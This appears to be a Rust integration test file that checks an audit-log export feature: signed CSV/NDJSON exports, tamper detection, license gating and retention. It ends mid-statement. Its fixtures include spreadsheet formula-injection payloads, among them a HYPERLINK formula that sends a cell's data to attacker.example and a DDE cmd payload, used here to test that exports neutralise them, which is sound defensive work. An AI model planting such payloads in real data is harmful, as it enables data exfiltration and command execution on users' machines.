//! Issue 5: chain verification, the streamed CSV/NDJSON export with its signed trailer, the
//! offline `flowguard audit verify-export`, the license gate, and the cases of
//! shared/cases/audit-export.md (C10 formula neutralisation, C11 framing).

use reqwest::{Method, StatusCode};
use serde_json::{json, Value};

use crate::helpers::*;
use crate::license::{install_ok, license};

/// Nasty values that reach the audit trail from outside: the username typed at a failed login
/// (trimmed and lowercased by the server) and the User-Agent.
const NASTY_USERNAMES: &[&str] = &[
    "=hyperlink(\"https://attacker.example/?d=\"&a2,\"open\")",
    "+given family",
    "-2+3",
    "@sum(1+1)",
    "line1\nline2, with \"quotes\"",
    "tab\tcr\r\nu2028\u{2028}astral\u{1F600}é",
    "'quoted",
];
const NASTY_UA: &str = "@SUM(1+1)*cmd|' /C calc'!A0";

/// An app with an Owner on a tenant licensed for `audit.export` (plan pro).
async fn licensed_app() -> (TestApp, Session, Session) {
    let app = spawn_app().await;
    let pa = app.platform_admin().await;
    install_ok(&pa, &license("lic-export", "pro", "audit.export", None)).await;
    let tid = app.tenant_id();
    pa.json(
        Method::PUT,
        &format!("/api/v1/platform/tenants/{tid}/plan"),
        Some(json!({"plan": "pro"})),
        200,
    )
    .await;
    let owner = app.owner().await;
    (app, owner, pa)
}

async fn failed_login(app: &TestApp, user: &str, ua: &str) {
    let r = app
        .client()
        .post(app.url("/api/v1/auth/login"))
        .header("User-Agent", ua)
        .json(&json!({"tenant": app.tenant_id(), "email": user, "password": "wrong-password-1"}))
        .send()
        .await
        .unwrap();
    let st = r.status();
    assert_eq!(st, 401, "{}", r.text().await.unwrap_or_default());
}

async fn export(s: &Session, query: &str) -> (reqwest::header::HeaderMap, Vec<u8>) {
    let r = s.get(&format!("/api/v1/audit/export?{query}")).await;
    let st = r.status();
    let h = r.headers().clone();
    let b = r.bytes().await.unwrap().to_vec();
    assert_eq!(st, StatusCode::OK, "{}", String::from_utf8_lossy(&b));
    (h, b)
}

async fn public_key_file(app: &TestApp, s: &Session) -> std::path::PathBuf {
    let k = s
        .json(Method::GET, "/api/v1/audit/signing-key", None, 200)
        .await;
    assert_eq!(k["algorithm"], "Ed25519");
    let p = app.dir.path().join("audit-signing.pub.pem");
    std::fs::write(&p, k["public_key_pem"].as_str().unwrap()).unwrap();
    p
}

/// Run `flowguard audit verify-export`; returns (success, stderr).
fn verify_export(app: &TestApp, name: &str, bytes: &[u8], key: &std::path::Path) -> (bool, String) {
    let f = app.dir.path().join(name);
    std::fs::write(&f, bytes).unwrap();
    let out = run_cli(&[
        "audit",
        "verify-export",
        f.to_str().unwrap(),
        "--public-key",
        key.to_str().unwrap(),
    ]);
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn strip_apostrophe(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

#[tokio::test]
async fn export_without_the_license_feature_is_403() {
    let app = spawn_app().await;
    let owner = app.owner().await;
    let pa = app.platform_admin().await;
    for s in [&owner] {
        let r = s.get("/api/v1/audit/export?format=csv").await;
        assert_eq!(r.status(), 403);
        let v: Value = r.json().await.unwrap();
        assert_eq!(v["code"], "feature_not_licensed");
        assert_eq!(v["feature"], "audit.export");
    }
    let r = pa.get("/api/v1/platform/audit/export?format=ndjson").await;
    assert_eq!(r.status(), 403);
    // A license with the feature but the tenant set to `free` by a PlatformAdmin → still 403
    // (a tenant whose plan nobody set follows the license's plan, issue 23).
    let tid = app.tenant_id();
    pa.json(
        Method::PUT,
        &format!("/api/v1/platform/tenants/{tid}/plan"),
        Some(json!({"plan": "free"})),
        200,
    )
    .await;
    install_ok(&pa, &license("lic-x", "pro", "audit.export", None)).await;
    let r = owner.get("/api/v1/audit/export?format=csv").await;
    assert_eq!(r.status(), 403);
    // The catalog export follows the deployment's license.
    let r = pa.get("/api/v1/platform/audit/export?format=ndjson").await;
    assert_eq!(r.status(), 200);
    // A refused export wrote no audit row.
    let rows = owner
        .json(Method::GET, "/api/v1/audit?action=audit.export", None, 200)
        .await;
    assert_eq!(rows["items"], json!([]));
}

#[tokio::test]
async fn export_roundtrips_nasty_values_in_both_formats_and_verifies() {
    let (app, owner, _pa) = licensed_app().await;
    let long_ua = format!("Mozilla/5.0 {}", "x".repeat(8 * 1024));
    for u in NASTY_USERNAMES {
        failed_login(&app, u, NASTY_UA).await;
    }
    failed_login(&app, "someone@example.com", &long_ua).await;
    let key = public_key_file(&app, &owner).await;

    // The reference: the audit API's JSON, oldest first.
    let list = owner
        .json(Method::GET, "/api/v1/audit?limit=1000", None, 200)
        .await;
    let mut reference: Vec<Value> = list["items"].as_array().unwrap().clone();
    reference.reverse();
    assert!(reference.len() > NASTY_USERNAMES.len());

    // NDJSON: identical JSON, then exactly one trailer line.
    let (h, nd) = export(&owner, "format=ndjson").await;
    assert_eq!(h["content-type"], "application/x-ndjson");
    assert_eq!(h["x-export-sanitization"], "none");
    let text = std::str::from_utf8(&nd).unwrap();
    assert!(text.ends_with('\n'));
    let lines: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let (trailer, rows) = lines.split_last().unwrap();
    assert_eq!(trailer["record_type"], "trailer");
    assert_eq!(trailer["complete"], true);
    assert_eq!(trailer["count"], rows.len());
    assert_eq!(
        rows.len(),
        reference.len(),
        "a snapshot of the rows before the export"
    );
    for (got, want) in rows.iter().zip(&reference) {
        let mut got = got.clone();
        assert_eq!(
            got.as_object_mut().unwrap().remove("record_type"),
            Some(json!("row"))
        );
        assert_eq!(&got, want);
    }
    for u in NASTY_USERNAMES {
        let norm = u.trim().to_lowercase();
        assert!(
            rows.iter().any(|r| r["actor_email"] == norm.as_str()),
            "{norm:?} missing"
        );
    }
    assert!(rows.iter().any(|r| r["user_agent"] == NASTY_UA));
    let (ok, err) = verify_export(&app, "a.ndjson", &nd, &key);
    assert!(ok, "{err}");

    // CSV, both profiles: parse back with a standard reader.
    for (profile, sanitised) in [("machine", false), ("spreadsheet", true)] {
        // Each export appends its own `audit.export` row: take a fresh reference.
        let list = owner
            .json(Method::GET, "/api/v1/audit?limit=1000", None, 200)
            .await;
        let mut reference: Vec<Value> = list["items"].as_array().unwrap().clone();
        reference.reverse();
        let (h, csv_bytes) = export(&owner, &format!("format=csv&profile={profile}")).await;
        assert!(h["content-type"].to_str().unwrap().starts_with("text/csv"));
        assert_eq!(h["x-export-sanitization"], profile);
        assert!(!csv_bytes.starts_with(&[0xEF, 0xBB, 0xBF]), "no BOM");
        assert!(csv_bytes.ends_with(b"\r\n"));
        let mut rdr = csv::ReaderBuilder::new().from_reader(&csv_bytes[..]);
        let header: Vec<String> = rdr.headers().unwrap().iter().map(String::from).collect();
        assert_eq!(header[0], "record_type");
        assert_eq!(header.len(), 13);
        let recs: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
        let (last, data) = recs.split_last().unwrap();
        assert_eq!(&last[0], "trailer");
        assert_eq!(data.len(), reference.len());
        for (rec, want) in data.iter().zip(&reference) {
            assert_eq!(rec.len(), 13, "every row has the same number of fields");
            assert_eq!(&rec[0], "row");
            assert_eq!(
                rec[1].parse::<i64>().unwrap(),
                want["seq"].as_i64().unwrap()
            );
            for (i, col) in header.iter().enumerate().skip(2) {
                let raw = match &want[col.as_str()] {
                    Value::Null => String::new(),
                    Value::String(s) => s.clone(),
                    other => other.to_string(),
                };
                let cell = &rec[i];
                if sanitised {
                    let risky = raw.starts_with(['=', '+', '-', '@', '\t', '\r', '\'']);
                    if risky {
                        assert_eq!(cell, format!("'{raw}"), "{col} must be neutralised");
                    } else {
                        assert_eq!(cell, raw, "{col}");
                    }
                    assert_eq!(strip_apostrophe(cell), raw.as_str());
                } else {
                    assert_eq!(cell, raw, "{col} must be raw in the machine profile");
                }
            }
        }
        if sanitised {
            // C10: the first value becomes the quoted cell "'=HYPERLINK(""…"")".
            let s = String::from_utf8(csv_bytes.clone()).unwrap();
            assert!(
                s.contains("\"'=hyperlink(\"\"https://attacker.example/?d=\"\"&a2,\"\"open\"\")\""),
                "{s}"
            );
        }
        let (ok, err) = verify_export(&app, &format!("a-{profile}.csv"), &csv_bytes, &key);
        assert!(ok, "{profile}: {err}");
    }

    // The exports themselves are audited, after (and outside) each snapshot.
    let rows = owner
        .json(Method::GET, "/api/v1/audit?action=audit.export", None, 200)
        .await;
    assert_eq!(rows["items"].as_array().unwrap().len(), 3);
    // The chain is intact.
    let v = owner
        .json(Method::GET, "/api/v1/audit/verify", None, 200)
        .await;
    assert_eq!(v["ok"], true, "{v}");
    assert_eq!(v["first_bad"], Value::Null);
    let out = run_cli(&[
        "audit",
        "verify",
        "--tenant",
        &app.tenant_id(),
        "--data-dir",
        app.data.to_str().unwrap(),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Every way of truncating or editing an export makes verification fail, naming why.
#[tokio::test]
async fn truncated_or_edited_exports_fail_verification() {
    let (app, owner, _pa) = licensed_app().await;
    for u in ["a@x.example", "b@x.example", "c@x.example", "d@x.example"] {
        failed_login(&app, u, "ua").await;
    }
    let key = public_key_file(&app, &owner).await;
    let (_, nd) = export(&owner, "format=ndjson").await;
    let (_, cs) = export(&owner, "format=csv&profile=machine").await;

    let nd_text = String::from_utf8(nd.clone()).unwrap();
    let nd_lines: Vec<&str> = nd_text.split_inclusive('\n').collect();
    let n = nd_lines.len();
    assert!(n >= 5);
    let join = |v: Vec<&str>| v.concat().into_bytes();
    let mut swapped = nd_lines.clone();
    swapped.swap(1, 2);
    let mut removed = nd_lines.clone();
    removed.remove(2);
    let mut removed_first = nd_lines.clone();
    removed_first.remove(0);
    let edited = nd_text
        .replacen("b@x.example", "z@x.example", 1)
        .into_bytes();
    let recount = nd_text
        .replace(&format!("\"count\":{}", n - 1), &format!("\"count\":{}", n))
        .into_bytes();
    let t = nd_lines[n - 1];
    let sig_at = t.find("\"signature\":\"").unwrap() + 13;
    let mut bad_sig = t.to_string();
    let c = if &bad_sig[sig_at..sig_at + 1] == "A" {
        "B"
    } else {
        "A"
    };
    bad_sig.replace_range(sig_at..sig_at + 1, c);
    let mut bad_sig_file = nd_lines[..n - 1].to_vec();
    bad_sig_file.push(&bad_sig);
    let mut appended = nd.clone();
    appended.extend_from_slice(nd_lines[0].as_bytes());

    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        (
            "ndjson without trailer",
            join(nd_lines[..n - 1].to_vec()),
            "truncated",
        ),
        (
            "ndjson cut mid-line",
            nd[..nd.len() - 10].to_vec(),
            "truncated",
        ),
        (
            "ndjson cut mid-row",
            nd[..nd_lines[0].len() + 5].to_vec(),
            "truncated",
        ),
        ("ndjson empty", Vec::new(), "truncated"),
        ("ndjson row removed", join(removed), "removed"),
        ("ndjson first row removed", join(removed_first), "removed"),
        ("ndjson rows swapped", join(swapped), "reordered"),
        ("ndjson row edited", edited, "edited"),
        ("ndjson trailer count changed", recount, "signature"),
        ("ndjson signature changed", join(bad_sig_file), "signature"),
        ("ndjson data after trailer", appended, "after the trailer"),
    ];
    for (what, bytes, reason) in &cases {
        let (ok, err) = verify_export(&app, "t.ndjson", bytes, &key);
        assert!(!ok, "{what} verified");
        assert!(err.contains(reason), "{what}: expected `{reason}` in {err}");
    }

    // CSV: locate records with a real reader to cut and edit them.
    let mut rdr = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&cs[..]);
    let mut starts = Vec::new();
    let mut rec = csv::StringRecord::new();
    loop {
        let mut p = rdr.position().byte() as usize;
        while matches!(cs.get(p), Some(b'\r' | b'\n')) {
            p += 1;
        }
        if !rdr.read_record(&mut rec).unwrap() {
            break;
        }
        starts.push(p);
    }
    let trailer_at = *starts.last().unwrap();
    let row2 = starts[2]..starts[3];
    let mut cs_removed = cs[..row2.start].to_vec();
    cs_removed.extend_from_slice(&cs[row2.end..]);
    let mut cs_swapped = cs[..starts[1]].to_vec();
    cs_swapped.extend_from_slice(&cs[starts[2]..starts[3]]);
    cs_swapped.extend_from_slice(&cs[starts[1]..starts[2]]);
    cs_swapped.extend_from_slice(&cs[starts[3]..]);
    let cs_edited = String::from_utf8(cs.clone())
        .unwrap()
        .replacen("c@x.example", "q@x.example", 1)
        .into_bytes();
    let mut cs_bom = vec![0xEF, 0xBB, 0xBF];
    cs_bom.extend_from_slice(&cs);
    let csv_cases: Vec<(&str, Vec<u8>, &str)> = vec![
        (
            "csv without trailer",
            cs[..trailer_at].to_vec(),
            "truncated",
        ),
        (
            "csv cut inside the trailer",
            cs[..cs.len() - 7].to_vec(),
            "truncated",
        ),
        ("csv row removed", cs_removed, "removed"),
        ("csv rows swapped", cs_swapped, "reordered"),
        ("csv row edited", cs_edited, "edited"),
        ("csv with BOM", cs_bom, "byte-order mark"),
    ];
    for (what, bytes, reason) in &csv_cases {
        let (ok, err) = verify_export(&app, "t.csv", bytes, &key);
        assert!(!ok, "{what} verified");
        assert!(err.contains(reason), "{what}: expected `{reason}` in {err}");
    }

    // Another deployment's key does not verify this export.
    let other = spawn_app().await;
    let other_owner = other.owner().await;
    let other_key = public_key_file(&other, &other_owner).await;
    let (ok, err) = verify_export(&app, "k.ndjson", &nd, &other_key);
    assert!(!ok && err.contains("signature"), "{err}");
    // …and the untouched files still verify.
    assert!(verify_export(&app, "ok.ndjson", &nd, &key).0);
    assert!(verify_export(&app, "ok.csv", &cs, &key).0);
}

#[tokio::test]
async fn export_range_is_normalised_and_validated() {
    let (app, owner, _pa) = licensed_app().await;
    failed_login(&app, "r@x.example", "ua").await;
    let rows = owner
        .json(Method::GET, "/api/v1/audit?limit=1000", None, 200)
        .await;
    let newest = rows["items"][0]["ts"].as_str().unwrap().to_string();
    let t = chrono::DateTime::parse_from_rfc3339(&newest).unwrap();
    // The same instant written with a +01:00 offset selects the same rows as the UTC form.
    let from_utc = t.to_rfc3339_opts(chrono::SecondsFormat::Millis, true);
    let from_off = t
        .with_timezone(&chrono::FixedOffset::east_opt(3600).unwrap())
        .to_rfc3339_opts(chrono::SecondsFormat::Millis, false);
    let to = (t + chrono::Duration::milliseconds(1))
        .to_rfc3339_opts(chrono::SecondsFormat::Millis, true);
    let enc = |s: &str| s.replace('+', "%2B");
    let (_, a) = export(
        &owner,
        &format!("format=ndjson&from={}&to={to}", enc(&from_utc)),
    )
    .await;
    let (_, b) = export(
        &owner,
        &format!("format=ndjson&from={}&to={to}", enc(&from_off)),
    )
    .await;
    let count = |b: &[u8]| -> u64 {
        let t: Value =
            serde_json::from_str(std::str::from_utf8(b).unwrap().lines().last().unwrap()).unwrap();
        assert_eq!(t["from"], from_utc.as_str(), "range normalised to UTC");
        t["count"].as_u64().unwrap()
    };
    assert_eq!(count(&a), 1);
    assert_eq!(count(&b), 1);
    for (q, code) in [
        ("format=xml", "invalid_format"),
        ("format=csv&from=yesterday", "invalid_timestamp"),
        (
            "format=csv&from=2024-03-31T02:00:00Z&to=2024-03-31T00:00:00Z",
            "invalid_range",
        ),
        ("format=ndjson&profile=spreadsheet", "invalid_profile"),
        ("format=csv&profile=excel", "invalid_profile"),
    ] {
        let r = owner.get(&format!("/api/v1/audit/export?{q}")).await;
        assert_eq!(r.status(), 400, "{q}");
        let v: Value = r.json().await.unwrap();
        assert_eq!(v["code"], code, "{q}");
    }
}

/// Every privileged action that exists so far writes an audit row (tenant or catalog chain).
#[tokio::test]
async fn every_privileged_action_writes_a_row() {
    let app = spawn_with(Opts {
        config: Some(crate::ldap_support::APP_CONFIG.to_string()),
        ..Default::default()
    })
    .await;
    let pa = app.platform_admin().await;
    install_ok(&pa, &license("lic-export", "pro", "audit.export", None)).await;
    let tid = app.tenant_id();
    pa.json(
        Method::PUT,
        &format!("/api/v1/platform/tenants/{tid}/plan"),
        Some(json!({"plan": "pro"})),
        200,
    )
    .await;
    let owner = app.owner().await;
    // Tenant actions.
    let a = owner
        .json(
            Method::POST,
            "/api/v1/applications",
            Some(json!({"name": "a", "base_url": "https://a.example"})),
            201,
        )
        .await;
    let aid = a["id"].as_str().unwrap().to_string();
    owner
        .json(
            Method::PUT,
            &format!("/api/v1/applications/{aid}"),
            Some(json!({"name": "b", "base_url": "https://b.example"})),
            200,
        )
        .await;
    let m = owner
        .json(
            Method::POST,
            "/api/v1/members",
            Some(
                json!({"email": "m@x.example", "role": "tester", "password": "member-password-1"}),
            ),
            201,
        )
        .await;
    let mid = m["id"].as_str().unwrap().to_string();
    owner
        .json(
            Method::PATCH,
            &format!("/api/v1/members/{mid}"),
            Some(json!({"role": "viewer"})),
            200,
        )
        .await;
    let at = owner
        .json(
            Method::POST,
            "/api/v1/agent-tokens",
            Some(json!({"application_id": aid, "name": "ci"})),
            201,
        )
        .await;
    owner
        .req(
            Method::DELETE,
            &format!("/api/v1/agent-tokens/{}", at["id"].as_str().unwrap()),
            None,
        )
        .await;
    let st = owner
        .json(
            Method::POST,
            "/api/v1/scim-tokens",
            Some(json!({"name": "entra"})),
            201,
        )
        .await;
    owner
        .req(
            Method::DELETE,
            &format!("/api/v1/scim-tokens/{}", st["id"].as_str().unwrap()),
            None,
        )
        .await;
    // Flows, variables, webhooks, runs.
    let f = owner
        .json(
            Method::POST,
            &format!("/api/v1/applications/{aid}/flows"),
            Some(json!({"name": "f", "steps": [{"type": "navigate", "url": "/"}]})),
            201,
        )
        .await;
    let fid = f["id"].as_str().unwrap().to_string();
    owner
        .json(
            Method::PUT,
            &format!("/api/v1/flows/{fid}"),
            Some(json!({"name": "f2", "steps": [{"type": "navigate", "url": "/x"}]})),
            200,
        )
        .await;
    owner
        .json(
            Method::PUT,
            &format!("/api/v1/flows/{fid}/schedule"),
            Some(json!({"cron": "0 0 * * * *", "timezone": "UTC"})),
            200,
        )
        .await;
    owner
        .json(
            Method::PUT,
            &format!("/api/v1/applications/{aid}/variables/pw"),
            Some(json!({"value": "s3cret-value", "secret": true})),
            200,
        )
        .await;
    let r = owner
        .req(
            Method::DELETE,
            &format!("/api/v1/applications/{aid}/variables/pw"),
            None,
        )
        .await;
    assert!(r.status().is_success(), "{}", r.status());
    let w = owner
        .json(
            Method::POST,
            &format!("/api/v1/flows/{fid}/webhook-tokens"),
            Some(json!({"name": "deploy"})),
            201,
        )
        .await;
    let r = owner
        .req(
            Method::DELETE,
            &format!(
                "/api/v1/flows/{fid}/webhook-tokens/{}",
                w["id"].as_str().unwrap()
            ),
            None,
        )
        .await;
    assert!(r.status().is_success(), "{}", r.status());
    let run = owner
        .json(
            Method::POST,
            &format!("/api/v1/flows/{fid}/runs"),
            None,
            201,
        )
        .await;
    owner
        .json(
            Method::POST,
            &format!("/api/v1/runs/{}/cancel", run["id"].as_str().unwrap()),
            None,
            200,
        )
        .await;
    let r = owner
        .req(Method::DELETE, &format!("/api/v1/flows/{fid}"), None)
        .await;
    assert!(r.status().is_success(), "{}", r.status());
    // SSO configuration and key rotation.
    let pki = crate::ldap_support::Pki::new();
    owner
        .json(
            Method::PUT,
            "/api/v1/sso/ldap",
            Some(crate::ldap_support::config_body(
                "ldaps://localhost:636",
                &pki.ca_pem,
                // Saved but off: the failed logins below must not try the (absent) directory.
                json!({"enabled": false}),
            )),
            200,
        )
        .await;
    let r = owner.req(Method::POST, "/api/v1/keys/rotate", None).await;
    assert!(r.status().is_success(), "{}", r.status());
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    loop {
        let v = owner
            .json(Method::GET, "/api/v1/audit?action=key.rotate", None, 200)
            .await;
        if !v["items"].as_array().unwrap().is_empty() || std::time::Instant::now() > deadline {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    }
    owner
        .req(Method::DELETE, &format!("/api/v1/members/{mid}"), None)
        .await;
    // An application with flows and runs deletes cleanly (runs go with it).
    let r = owner
        .req(Method::DELETE, &format!("/api/v1/applications/{aid}"), None)
        .await;
    assert_eq!(r.status(), 204, "delete an application that has runs");
    for _ in 0..5 {
        failed_login(&app, "victim@x.example", "ua").await;
    }
    let _ = export(&owner, "format=ndjson").await;

    // Catalog actions.
    std::fs::write(
        app.data.join("license.jwt"),
        license("lic-reload", "pro", "audit.export", None),
    )
    .unwrap();
    pa.json(Method::POST, "/api/v1/platform/license/reload", None, 200)
        .await;
    pa.json(
        Method::POST,
        "/api/v1/platform/license/revocations",
        Some(json!({"license_id": "old-lic"})),
        201,
    )
    .await;
    let t = pa
        .json(
            Method::POST,
            "/api/v1/platform/tenants",
            Some(json!({"name": "t2", "owner_email": "o@t2.example"})),
            201,
        )
        .await;
    let t2 = t["tenant"]["id"].as_str().unwrap().to_string();
    pa.json(
        Method::POST,
        &format!("/api/v1/platform/tenants/{t2}/suspend"),
        None,
        200,
    )
    .await;
    pa.json(
        Method::POST,
        &format!("/api/v1/platform/tenants/{t2}/resume"),
        None,
        200,
    )
    .await;
    pa.json(
        Method::PUT,
        &format!("/api/v1/platform/tenants/{t2}/plan"),
        Some(json!({"plan": "pro"})),
        200,
    )
    .await;
    let out = run_cli(&[
        "license",
        "issue",
        "--dev",
        "--plan",
        "pro",
        "--expires",
        "2099-01-01T00:00:00Z",
        "--data-dir",
        app.data.to_str().unwrap(),
    ]);
    assert!(out.status.success());
    let _ = pa
        .get("/api/v1/platform/audit/export?format=csv")
        .await
        .bytes()
        .await;

    let tenant_actions = [
        "application.create",
        "application.update",
        "application.delete",
        "member.add",
        "member.role_change",
        "member.remove",
        "agent_token.create",
        "agent_token.revoke",
        "scim_token.create",
        "scim_token.revoke",
        "login.failure",
        "login.lockout",
        "login.success",
        "audit.export",
        "flow.create",
        "flow.update",
        "flow.schedule",
        "flow.delete",
        "variable.set",
        "variable.delete",
        "webhook_token.create",
        "webhook_token.revoke",
        "run.trigger",
        "run.cancel",
        "sso.config_change",
        "key.rotate",
    ];
    let catalog_actions = [
        "tenant.create",
        "tenant.suspend",
        "tenant.resume",
        "tenant.plan_change",
        "license.install",
        "license.reload",
        "license.revoke",
        "license.issue",
        "platform_admin.create",
        "audit.export",
    ];
    let mut missing = Vec::new();
    for a in tenant_actions {
        let v = owner
            .json(Method::GET, &format!("/api/v1/audit?action={a}"), None, 200)
            .await;
        if v["items"].as_array().unwrap().is_empty() {
            missing.push(format!("tenant {a}"));
        }
    }
    for a in catalog_actions {
        let v = pa
            .json(
                Method::GET,
                &format!("/api/v1/platform/audit?action={a}"),
                None,
                200,
            )
            .await;
        if v["items"].as_array().unwrap().is_empty() {
            missing.push(format!("catalog {a}"));
        }
    }
    assert!(
        missing.is_empty(),
        "actions without an audit row: {missing:?}"
    );
    // Both chains verify.
    assert_eq!(
        owner
            .json(Method::GET, "/api/v1/audit/verify", None, 200)
            .await["ok"],
        true
    );
    assert_eq!(
        pa.json(Method::GET, "/api/v1/platform/audit/verify", None, 200)
            .await["ok"],
        true
    );
    let _ = tid;
}

/// C11: the cursor fails after the second row once the 200 is on its way: no trailer, and the
/// body ends in an error (HTTP/1.1: no final zero-length chunk; HTTP/2: stream reset), so a
/// consumer detects truncation.
#[tokio::test]
async fn failure_mid_stream_writes_no_trailer_and_aborts() {
    let app = spawn_with(Opts {
        env: vec![("FG_TEST_FAULT_EXPORT_AFTER_ROWS".into(), "2".into())],
        ..Default::default()
    })
    .await;
    let pa = app.platform_admin().await;
    install_ok(&pa, &license("lic-f", "pro", "audit.export", None)).await;
    pa.json(
        Method::PUT,
        &format!("/api/v1/platform/tenants/{}/plan", app.tenant_id()),
        Some(json!({"plan": "pro"})),
        200,
    )
    .await;
    for u in ["e1@x.example", "e2@x.example", "e3@x.example"] {
        failed_login(&app, u, "ua").await;
    }
    for (format, http1) in [("ndjson", true), ("csv", true), ("ndjson", false)] {
        let mut b = reqwest::Client::builder()
            .add_root_certificate(reqwest::Certificate::from_pem(&app.cert).unwrap())
            .tls_built_in_root_certs(false);
        if http1 {
            b = b.http1_only();
        }
        let c = b.build().unwrap();
        let r = c
            .get(app.url(&format!("/api/v1/audit/export?format={format}")))
            .header("Cookie", owner_cookie(&app).await)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200, "the status is sent before the failure");
        let mut got = Vec::new();
        let mut r = r;
        let err = loop {
            match r.chunk().await {
                Ok(Some(c)) => got.extend_from_slice(&c),
                Ok(None) => break None,
                Err(e) => break Some(e),
            }
        };
        assert!(
            err.is_some(),
            "{format} http1={http1}: the body must end in an error"
        );
        let text = String::from_utf8_lossy(&got);
        assert!(
            !text.contains("trailer"),
            "no trailer after a failure: {text}"
        );
    }
}

async fn owner_cookie(app: &TestApp) -> String {
    // The helper login clears the one-time flag (keeping the password), so the raw login below
    // gets a session the API serves.
    app.owner().await;
    let r = app
        .client()
        .post(app.url("/api/v1/auth/login"))
        .json(&json!({"tenant": app.tenant_id(), "email": "admin@localhost", "password": app.owner_password()}))
        .send()
        .await
        .unwrap();
    let c = r
        .headers()
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find_map(|c| c.strip_prefix("fg_session="))
        .and_then(|c| c.split(';').next())
        .unwrap()
        .to_string();
    format!("fg_session={c}")
}

fn run_retention(app: &TestApp, as_of: chrono::DateTime<chrono::Utc>) -> Value {
    let out = run_cli(&[
        "jobs",
        "run-once",
        "retention",
        "--as-of",
        &as_of.to_rfc3339(),
        "--data-dir",
        app.data.to_str().unwrap(),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}

/// Retention follows the plan (Free 7 days, Pro 90), purges only the oldest prefix, audits the
/// purge, keeps the chain verifiable through the anchor, and never touches the catalog audit.
#[tokio::test]
async fn retention_purge_keeps_the_chain_verifiable() {
    let app = spawn_app().await;
    let owner = app.owner().await;
    let pa = app.platform_admin().await;
    let tid = app.tenant_id();
    for u in ["p1@x.example", "p2@x.example"] {
        failed_login(&app, u, "ua").await;
    }
    let before = owner
        .json(Method::GET, "/api/v1/audit/verify", None, 200)
        .await;
    assert_eq!(before["ok"], true);
    let n_before = before["rows"].as_u64().unwrap();
    let catalog_before = pa
        .json(Method::GET, "/api/v1/platform/audit/verify", None, 200)
        .await["rows"]
        .as_u64()
        .unwrap();
    let now = chrono::Utc::now();

    // 6 days on: inside Free's 7 days → nothing purged, no audit row.
    let r = run_retention(&app, now + chrono::Duration::days(6));
    let mine = r
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["tenant_id"] == tid.as_str())
        .unwrap()
        .clone();
    assert_eq!(mine["retention_days"], 7);
    assert_eq!(mine["purged_rows"], 0);
    let v = owner
        .json(Method::GET, "/api/v1/audit?action=audit.purge", None, 200)
        .await;
    assert_eq!(v["items"], json!([]));

    // A Pro tenant (90 days) keeps its rows at 8 days.
    install_ok(&pa, &license("lic-ret", "pro", "", None)).await;
    pa.json(
        Method::PUT,
        &format!("/api/v1/platform/tenants/{tid}/plan"),
        Some(json!({"plan": "pro"})),
        200,
    )
    .await;
    let r = run_retention(&app, now + chrono::Duration::days(8));
    let mine = r
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["tenant_id"] == tid.as_str())
        .unwrap()
        .clone();
    assert_eq!(
        (
            mine["retention_days"].as_u64(),
            mine["purged_rows"].as_u64()
        ),
        (Some(90), Some(0))
    );

    // Runs: a finished (cancelled) run is purged with the audit rows; a queued one never is.
    let a = owner
        .json(
            Method::POST,
            "/api/v1/applications",
            Some(json!({"name": "ret", "base_url": "https://ret.example"})),
            201,
        )
        .await;
    let f = owner
        .json(
            Method::POST,
            &format!("/api/v1/applications/{}/flows", a["id"].as_str().unwrap()),
            Some(json!({"name": "f", "steps": [{"type": "navigate", "url": "/"}]})),
            201,
        )
        .await;
    let fid = f["id"].as_str().unwrap();
    let mut run_ids = Vec::new();
    for _ in 0..2 {
        let r = owner
            .json(
                Method::POST,
                &format!("/api/v1/flows/{fid}/runs"),
                None,
                201,
            )
            .await;
        run_ids.push(r["id"].as_str().unwrap().to_string());
    }
    owner
        .json(
            Method::POST,
            &format!("/api/v1/runs/{}/cancel", run_ids[0]),
            None,
            200,
        )
        .await;

    // Back on Free, 8 days on: everything before the cutoff goes, in one audited purge.
    pa.json(
        Method::PUT,
        &format!("/api/v1/platform/tenants/{tid}/plan"),
        Some(json!({"plan": "free"})),
        200,
    )
    .await;
    let r = run_retention(&app, now + chrono::Duration::days(8));
    let mine = r
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["tenant_id"] == tid.as_str())
        .unwrap()
        .clone();
    assert_eq!(mine["retention_days"], 7);
    assert!(mine["purged_rows"].as_u64().unwrap() >= n_before);
    assert_eq!(mine["purged_runs"], 1, "{mine}");
    let r = owner.get(&format!("/api/v1/runs/{}", run_ids[0])).await;
    assert_eq!(r.status(), 404, "the finished run is purged");
    let r = owner.get(&format!("/api/v1/runs/{}", run_ids[1])).await;
    assert_eq!(r.status(), 200, "a queued run is never purged");
    let purge = owner
        .json(Method::GET, "/api/v1/audit?action=audit.purge", None, 200)
        .await;
    let row = &purge["items"][0];
    assert_eq!(row["actor_email"], "job:retention");
    assert_eq!(row["details"]["retention_days"], 7);
    assert!(row["details"]["anchor_hash"].as_str().unwrap().len() == 64);
    let after = owner
        .json(Method::GET, "/api/v1/audit/verify", None, 200)
        .await;
    assert_eq!(
        after["ok"], true,
        "the chain verifies after a purge: {after}"
    );
    assert!(after["rows"].as_u64().unwrap() < n_before);
    let out = run_cli(&[
        "audit",
        "verify",
        "--tenant",
        &tid,
        "--data-dir",
        app.data.to_str().unwrap(),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // The catalog audit is never purged.
    let catalog_after = pa
        .json(Method::GET, "/api/v1/platform/audit/verify", None, 200)
        .await;
    assert_eq!(catalog_after["ok"], true);
    assert!(catalog_after["rows"].as_u64().unwrap() > catalog_before);
    let out = run_cli(&[
